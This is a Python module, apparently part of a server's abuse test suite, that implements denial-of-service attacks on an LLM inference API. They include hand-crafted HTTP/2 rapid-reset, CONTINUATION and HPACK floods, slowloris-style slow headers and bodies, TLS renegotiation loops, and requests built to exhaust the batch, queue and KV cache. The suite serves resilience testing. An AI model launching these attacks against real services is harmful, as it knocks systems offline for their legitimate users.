"""The attacks of tests/abuse, one function for each class and transport.

Each runs on one connection (or some) until the server ends it or time is up, and is then run again.
`only_keyed`: pointless without a key. `tls`: against a server with TLS. `hurts`: the victim's request,
if it is not a chat.
"""

import asyncio
import functools
import json
import os
import re
import struct
import subprocess
from dataclasses import dataclass
from typing import Callable

from attacker import ADDRESS, client_hello
from victim import CHAT as CHAT_REQUEST
from victim import EMBEDDING

CHAT = "/v1/chat/completions"
MIB = 1 << 20


@dataclass(frozen=True)
class Attack:
    line: str  # the class: what it wants to exhaust
    count: int  # connections at once
    run: Callable
    only_keyed: bool = False
    tls: bool = False
    hurts: tuple = CHAT_REQUEST


ATTACKS = {}


def attack(line, count, **how):
    def add(function):
        ATTACKS[function.__name__] = Attack(line, count, function, **how)
        return function
    return add


def chat_body(tokens, text="Hello", **fields):
    return json.dumps({"messages": [{"role": "user", "content": text}], "max_tokens": tokens,
                       **fields}).encode()


@functools.lru_cache(maxsize=2)
def padded_chat(count):
    """The same bytes for every connection: at nice 19 the attacker has no time to make them anew."""
    return chat_body(500, padding="x" * count)


@functools.lru_cache(maxsize=2)
def padded_request(target, count):
    return target.post(CHAT, padded_chat(count), "prefer: respond-async")


# --- HTTP/2 by hand: the frames that an honest library would not send ---

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def literal(name, value):
    """A header that is not indexed, with lengths below 127."""
    name, value = name.encode(), value.encode()
    long = lambda text: bytes([127]) + varint(len(text) - 127) if len(text) >= 127 else bytes(  # noqa: E731
        [len(text)])
    return b"\0" + long(name) + name + long(value) + value


def varint(number):
    out = b""
    while number >= 128:
        out += bytes([number % 128 + 128])
        number //= 128
    return out + bytes([number])


def h2_request(target, stream, method, path, body=None, extra=()):
    fields = [(":method", method), (":scheme", "http"), (":path", path),
              (":authority", f"{target.host}:{target.port}"), *extra]
    if target.key:
        fields.append(("authorization", f"Bearer {target.key}"))
    if body is not None:
        fields += [("content-type", "application/json"), ("content-length", str(len(body)))]
    block = b"".join(literal(*field) for field in fields)
    flags = END_HEADERS | (0 if body is not None else END_STREAM)
    out = frame(HEADERS, flags, stream, block)
    if body is not None:
        out += frame(DATA, END_STREAM, stream, body)
    return out


async def h2_open(target, window=0):
    connection = await target.connect(receive_buffer=4096)
    await connection.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)))
    return connection


# --- replies that nobody reads ---

async def h2_unread(target, *request):
    async with await h2_open(target) as connection:
        for wave in range(20):
            await connection.send(h2_wave(target, wave, *request))
            await asyncio.sleep(0.2)
        await connection.until_closed(10)


@functools.lru_cache(maxsize=40)
def h2_wave(target, wave, *request):
    """A hundred requests; the same bytes on every connection."""
    return b"".join(h2_request(target, 1 + 2 * (100 * wave + i), *request) for i in range(100))


@attack("unread replies", 200)
async def h2_zero_window_documents(target):
    await h2_unread(target, "GET", "/openapi.json")


@attack("unread replies", 60, only_keyed=True)
async def h2_zero_window_tokenize(target):
    body = json.dumps({"prompt": "word " * 1500}).encode()
    await h2_unread(target, "POST", "/tokenize", body)


@attack("unread replies", 200)
async def h1_unread_documents(target):
    async with await target.connect(receive_buffer=4096) as connection:
        for _ in range(100):
            await connection.send(target.head("GET", "/openapi.json") * 20)
            await asyncio.sleep(0.05)
        await connection.until_closed(10)


@attack("unread replies", 60, only_keyed=True)
async def h1_unread_tokenize(target):
    request = target.post("/tokenize", json.dumps({"prompt": "word " * 1500}).encode())
    async with await target.connect(receive_buffer=4096) as connection:
        for _ in range(100):
            await connection.send(request * 5)
            await asyncio.sleep(0.05)
        await connection.until_closed(10)


@attack("unread replies", 60, only_keyed=True)
async def h1_unread_streams(target):
    async with await target.connect(receive_buffer=4096) as connection:
        await connection.send(target.post(CHAT, chat_body(4000, stream=True, logprobs=True,
                                                          top_logprobs=20)))
        await connection.until_closed(20)


# --- bodies that nobody needs ---

async def slow_body(target, method, path, length, headers=()):
    async with await target.connect() as connection:
        await connection.send(target.head(method, path, f"content-length: {length}", *headers))
        sent = 0
        while sent < length - 1 and not target.is_over:
            await connection.send(b" " * min(65536, length - 1 - sent))
            sent += 65536
        await connection.until_closed(10)


@attack("bodies", 65)
async def bodies_of_probes(target):
    await slow_body(target, "GET", "/livez", 8 * MIB)


@attack("bodies", 65)
async def bodies_of_deletes(target):
    await slow_body(target, "DELETE", "/v1/requests/x", 8 * MIB)


@attack("bodies", 65)
async def bodies_of_chats(target):
    await slow_body(target, "POST", CHAT, 8 * MIB, ["content-type: application/json"])


@attack("bodies", 65)
async def bodies_of_unknown_paths(target):
    await slow_body(target, "POST", "/nowhere", 8 * MIB)


@attack("bodies", 65)
async def chunked_bodies(target):
    async with await target.connect() as connection:
        await connection.send(target.head("POST", CHAT, "transfer-encoding: chunked"))
        for _ in range(120):
            await connection.send(b"10000\r\n" + b" " * 65536 + b"\r\n")
        await connection.until_closed(10)


@attack("bodies", 40)
async def h2_bodies(target):
    async with await h2_open(target, 65535) as connection:
        for stream in range(1, 40, 2):
            await connection.send(h2_request(target, stream, "POST", CHAT, b"")[:-9])
            for _ in range(4):
                await connection.send(frame(DATA, 0, stream, b" " * 16000))
        await connection.until_closed(10)


@attack("bodies", 40, only_keyed=True)
async def unknown_fields(target):
    """Requests that are answered later and carry seven megabytes that nobody asked for."""
    async with await target.connect() as connection:
        await connection.send(padded_request(target, 7 * MIB))
        await connection.receive()


# --- slow on purpose ---

@attack("slow heads", 300)
async def slow_heads(target):
    async with await target.connect() as connection:
        for byte in target.head("GET", "/openapi.json", "x: " + "y" * 200):
            await connection.send(bytes([byte]))
            await asyncio.sleep(2)


@attack("slow readers", 300)
async def slow_readers(target):
    async with await target.connect(receive_buffer=2048) as connection:
        await connection.send(target.head("GET", "/openapi.json") * 50)
        while not target.is_over:
            await connection.receive(1)
            await asyncio.sleep(2)


@attack("slow readers", 300)
async def h2_slow_windows(target):
    async with await h2_open(target) as connection:
        await connection.send(h2_request(target, 1, "GET", "/openapi.json"))
        while not target.is_over:
            await connection.send(frame(WINDOW, 0, 1, struct.pack(">I", 1)))
            await asyncio.sleep(1)


@attack("slow readers", 60, only_keyed=True)
async def ws_slow_readers(target):
    async with await target.connect(receive_buffer=2048) as connection:
        await ws_open(target, connection)
        await connection.send(ws_frame(chat_body(4000, ignore_eos=True)))
        while not target.is_over:
            await connection.receive(1)
            await asyncio.sleep(2)


@attack("WebSocket floods", 20, only_keyed=True)
async def ws_pings(target):
    async with await target.connect() as connection:
        await ws_open(target, connection)
        while not target.is_over:
            await connection.send(ws_frame(b"12345678", 9) * 500)


@attack("WebSocket floods", 20, only_keyed=True)
async def ws_short_messages(target):
    """A thousand refusals for each read of the server."""
    messages = ws_frame(b'{"model":0}') * 3000
    async with await target.connect() as connection:
        await ws_open(target, connection)
        for _ in range(200):
            await connection.send(messages)


@attack("bodies", 40, only_keyed=True)
async def ws_long_messages(target):
    """Messages of almost 8 MiB, of which only a few bytes mean something."""
    message = padded_message(8 * MIB - 4096)
    async with await target.connect() as connection:
        await ws_open(target, connection)
        while not target.is_over:
            await connection.send(message)
            await connection.receive()


@functools.lru_cache(maxsize=2)
def padded_message(count):
    return ws_frame(padded_chat(count))


async def ws_open(target, connection):
    await connection.send(target.head(
        "GET", "/v1/stream", "connection: upgrade", "upgrade: websocket",
        "sec-websocket-key: x3JJHMbDL1EzLkh9GBhXDw==", "sec-websocket-version: 13"))
    await connection.receive()


def ws_frame(data, opcode=1):
    """A frame whose mask is zero: the server cannot know that."""
    count = len(data)
    length = bytes([0x80 | count]) if count < 126 else (
        b"\xfe" + struct.pack(">H", count) if count < 65536 else b"\xff" + struct.pack(">Q", count))
    return bytes([0x80 | opcode]) + length + bytes(4) + data


@attack("connections", 400)
async def idle_connections(target):
    async with await target.connect() as connection:
        await connection.until_closed(30)


@attack("connections", 50)
async def reconnects(target):
    async with await target.connect() as connection:
        await connection.send(b"GET")


# --- frames of HTTP/2 that cost more to handle than to send ---

@attack("HTTP/2 floods", 20)
async def h2_rapid_resets(target):
    async with await h2_open(target, 65535) as connection:
        for stream in range(1, 20001, 2):
            await connection.send(h2_request(target, stream, "POST", CHAT, None) +
                                  frame(RST, 0, stream, struct.pack(">I", 8)))


@attack("HTTP/2 floods", 20)
async def h2_pings(target):
    async with await h2_open(target, 65535) as connection:
        while not target.is_over:
            await connection.send(frame(PING, 0, 0, b"12345678") * 500)


@attack("HTTP/2 floods", 20)
async def h2_settings(target):
    async with await h2_open(target, 65535) as connection:
        while not target.is_over:
            await connection.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1)) * 500)


@attack("HTTP/2 floods", 20)
async def h2_continuations(target):
    async with await h2_open(target, 65535) as connection:
        await connection.send(frame(HEADERS, 0, 1, literal("a", "b")))
        while not target.is_over:
            await connection.send(frame(CONTINUATION, 0, 1, literal("a", "b")) * 500)


@attack("HTTP/2 floods", 20)
async def h2_repeated_heads(target):
    """A header of 4,000 bytes is put into the table of HPACK once and named 2,000 times."""
    big = b"\x40" + b"\x01a" + b"\x7f" + varint(4000 - 127) + b"v" * 4000
    async with await h2_open(target, 65535) as connection:
        for stream in range(1, 2001, 2):
            fields = [(":method", "GET"), (":scheme", "http"), (":path", "/livez"),
                      (":authority", f"{target.host}:{target.port}")]
            block = b"".join(literal(*pair) for pair in fields) + big + b"\xbe" * 2000
            await connection.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, block))


# --- TLS ---

@attack("TLS", 300, tls=True)
async def tls_stopped_handshakes(target):
    async with await target.connect() as connection:
        await connection.send(client_hello()[:100])
        await connection.until_closed(30)


@attack("TLS", 300, tls=True)
async def tls_slow_handshakes(target):
    async with await target.connect() as connection:
        for byte in client_hello():
            await connection.send(bytes([byte]))
            await asyncio.sleep(1)


@attack("TLS", 20, tls=True)
async def tls_new_handshakes(target):
    """Complete handshakes, which cost the server more than the client."""
    async with await target.connect() as connection:
        await connection.handshake()


@attack("TLS", 50, tls=True)
async def tls_nonsense(target):
    async with await target.connect() as connection:
        await connection.send(b"\x16\x03\x01\x40\x00" + os.urandom(16384))
        await connection.receive()


@attack("TLS", 8, tls=True)
async def tls_renegotiations(target):
    command = ["openssl", "s_client", "-tls1_2", "-connect", f"{target.host}:{target.port}", "-bind",
               f"{ADDRESS}:0"]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                          stderr=subprocess.DEVNULL, bufsize=0) as process:
        try:
            while not target.is_over:
                process.stdin.write(b"R\n")
                await asyncio.sleep(0.02)
        finally:
            process.kill()


# --- work ---

@attack("shared workers", 24, only_keyed=True)
async def long_tokenizes(target):
    await ask(target, target.post("/tokenize", json.dumps({"prompt": "word " * 200000}).encode()))


@attack("shared workers", 24, only_keyed=True)
async def long_chats(target):
    await ask(target, target.post(CHAT, chat_body(1, "word " * 100000)))


@attack("the I/O thread", 24, only_keyed=True)
async def chats_of_63_kib(target):
    """The largest bodies that are parsed on the I/O thread."""
    await ask(target, target.post(CHAT, chat_body(1, "x " * 500, padding="[1, 2] " * 9000)))


@attack("the queue", 100, only_keyed=True)
async def many_chats(target):
    await ask(target, target.post(CHAT, chat_body(200, os.urandom(400).hex(), n=4)))


@attack("the batch", 60, only_keyed=True)
async def long_answers(target):
    """Fills the batch with answers that take long."""
    await ask(target, target.post(CHAT, chat_body(4000, os.urandom(8).hex(), ignore_eos=True)))


@attack("the batch", 60, only_keyed=True)
async def long_prompts(target):
    """Fills every step with prompts of 6,000 tokens that no cache has."""
    text = os.urandom(8).hex() + " word" * 1500
    await ask(target, target.post(CHAT, chat_body(1, text)))


@attack("KV blocks", 60, only_keyed=True)
async def long_contexts(target):
    """Fills the KV cache: long prompts and long answers."""
    text = os.urandom(8).hex() + " word" * 750
    await ask(target, target.post(CHAT, chat_body(4000, text, ignore_eos=True)))


@attack("the queue", 60, only_keyed=True)
async def clients_that_leave(target):
    async with await target.connect() as connection:
        await connection.send(target.post(CHAT, chat_body(500, stream=True)))


@attack("kept answers", 30, only_keyed=True)
async def kept_answers(target):
    await ask(target, target.post(CHAT, chat_body(300, logprobs=True, top_logprobs=20),
                                  "x-jitney-keep: true"))


@attack("embeddings", 30, only_keyed=True)
async def embeddings_of_clients_that_leave(target):
    async with await target.connect() as connection:
        await connection.send(target.post("/v1/embeddings", texts(400)))


@attack("embeddings", 30, only_keyed=True, hurts=EMBEDDING)
async def embeddings_of_two_keys(target):
    await ask(target, target.post("/v1/embeddings", texts(100)))


def texts(count):
    return json.dumps({"model": "bert", "input": ["word " * 10] * count}).encode()


@attack("broken requests", 50)
async def nonsense(target):
    async with await target.connect() as connection:
        await connection.send(os.urandom(2000))
        await connection.receive()


async def ask(target, request, timeout=60):
    """A request and its whole response, as an honest client would read it."""
    async with await target.connect() as connection:
        await connection.send(request)
        data = b""
        while b"\r\n\r\n" not in data:
            data += await connection.receive(timeout=timeout)
        head, _, rest = data.partition(b"\r\n\r\n")
        length = re.search(rb"(?i)content-length: (\d+)", head)
        left = int(length[1]) - len(rest) if length else None
        while left is None or left > 0:
            if left is None and rest.endswith(b"\r\n0\r\n\r\n"):
                break
            rest = rest[-8:] + await connection.receive(timeout=timeout)
            left = None if left is None else left - len(rest) + 8
